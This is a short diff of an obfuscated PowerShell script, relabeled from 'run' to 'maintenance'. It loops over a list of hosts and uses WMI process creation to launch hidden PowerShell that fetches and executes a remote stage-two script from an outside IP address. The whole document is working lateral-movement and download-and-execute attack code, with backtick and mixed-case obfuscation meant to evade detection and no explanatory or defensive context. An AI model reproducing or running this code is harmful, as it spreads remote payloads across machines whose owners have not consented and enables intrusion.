@@ -1,5 +1,5 @@
-# rUn 1163 V1
-$tArGeTs = GEt-`C`oNTeNT c:\wInDoWs\TEMP\HOsTS.TXT
-FoReAcH ($T in $tARgEtS) {
-  iNvO`ke-W`mImet`hoD -CompuTErnaMe $T -cLaSs wIN32_proCess -NAME cReaTE -argumeNTlisT "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/payload.ps1)"
+# mAiNtEnAnCe 7438 v1
+$TaRgEtS = GeT-`contEnt C:\WInDoWs\tEmP\hOsTs.TXt
+ForEACH ($t in $Targets) {
+  InVo`kE-`wMimEthO`D -CoMputernAME $T -ClasS wIn32_pRocESs -nAmE crEAtE -arguMENtlist "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/stage2.ps1)"
 }
